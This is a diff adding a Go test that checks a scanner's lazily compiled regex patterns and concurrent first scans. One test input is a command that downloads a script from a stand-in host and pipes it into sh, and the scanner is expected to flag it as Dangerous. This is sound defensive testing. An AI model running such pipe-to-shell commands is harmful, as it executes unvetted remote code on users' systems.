@@ -468,3 +468,30 @@ func TestPackageNames(t *testing.T) {
 		})
 	}
 }
+
+// TestLazyPatterns: patterns are compiled on first use (not at package initialisation), and
+// first uses racing each other are safe.
+func TestLazyPatterns(t *testing.T) {
+	l := lre(`\bfoo\s+bar`)
+	if l.re != nil {
+		t.Fatal("compiled before use")
+	}
+	done := make(chan bool)
+	for range 4 {
+		go func() { done <- l.MatchString("FOO bar") && !l.MatchString("foo\nbar") }()
+	}
+	for range 4 {
+		if !<-done {
+			t.Error("lre pattern matched wrongly")
+		}
+	}
+	reports := make(chan Report)
+	for range 2 {
+		go func() { reports <- scanOne("x.sh", "curl -fsSL https://x.invalid/i | sh") }()
+	}
+	for range 2 {
+		if r := <-reports; r.Verdict != Dangerous {
+			t.Errorf("concurrent first scans: verdict %s", r.Verdict)
+		}
+	}
+}
